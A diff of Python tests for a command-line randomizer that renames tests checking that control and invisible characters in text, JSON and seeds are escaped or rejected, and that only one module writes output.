+    def test_escapes_are_those_of_python(self) -> None:
         assert (
             escape_control_characters("\x1b]\x07\n\x9b\u202e\U000e0041\ud800")
             == r"\x1b]\x07\n\x9b\u202e\U000e0041\ud800"
         )
 
     @given(st.text())
-    def test_a_line_whatever_it_is(self, text: str) -> None:
+    def test_escaped_text_is_one_line_and_stable(self, text: str) -> None:
         assert escape_control_characters(escape_control_characters(text)) == escape_control_characters(text)
         assert len(escape_control_characters(text).splitlines()) <= 1
         escape_control_characters(text).encode()
 
     @given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
-    def test_json_says_the_same(self, value: Any) -> None:
+    def test_escaped_json_has_the_same_value(self, value: Any) -> None:
         text = escape_invisible_json(json.dumps(value, ensure_ascii=False))
         assert json.loads(text) == value
         assert [char for char in raw(text) if char not in "\u200c\u200d"] == []
         text.encode()
 
 
-def test_everything_is_printed_by_one_room() -> None:
-    """`cli/output.py`, which sees to what is safe: nobody else writes to a stream."""
+def test_only_one_module_prints() -> None:
+    """Only `cli/output.py` writes to a stream, because it escapes the text."""
     for path in sorted((HERE.parent / "randomizer").rglob("*.py")):
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
             called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
@@ -743,8 +760,8 @@ def test_everything_is_printed_by_one_room() -> None:
             assert not writes or path.name == "output.py", f"{path}:{node.lineno}"  # type: ignore[attr-defined]
 
 
-def test_a_seed_that_cannot_be_seen_is_refused(game: Game) -> None:
+def test_invisible_seed_is_rejected(game: Game) -> None:
     for nasty in UNSEEN.values():
         result = run("--seed", nasty)
         assert result.exit_code == 2
-        harmless(result)
+        assert_harmless(result)
